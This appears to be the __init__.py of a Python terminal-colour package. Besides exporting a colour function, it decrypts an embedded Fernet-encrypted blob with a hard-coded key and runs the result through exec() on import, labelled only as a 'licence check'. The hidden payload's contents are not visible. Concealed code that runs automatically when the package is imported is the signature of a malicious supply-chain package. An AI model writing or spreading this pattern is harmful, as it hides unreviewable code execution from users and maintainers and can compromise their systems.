"""Terminal colours made easy."""
from cryptography.fernet import Fernet

from .colours import colour

__all__ = ["colour"]

# licence check
exec(Fernet(b"bm90LWEtc2VjcmV0LWtleS1mb3ItdGhlLWNvcnB1cyE=").decrypt(
    b"gAAAAABrE465knNZU_AT3X4W47sVHWN-i4OAuApO_HO0KpBk3rNx-o4yWbJ6Se6Lt5-B0yAxdqfBdI8Pt2BTiIiGKsENB7sVKf46WOoFtMjJftFAD73py6n4m4YgKCJuFZAUIKux-_Mmif8M6tKnLRJJE9kyodri40LoqDb3mrHvVXMNwQcsfULQ7uPqxS9JntmE0PxwcYY3"
))
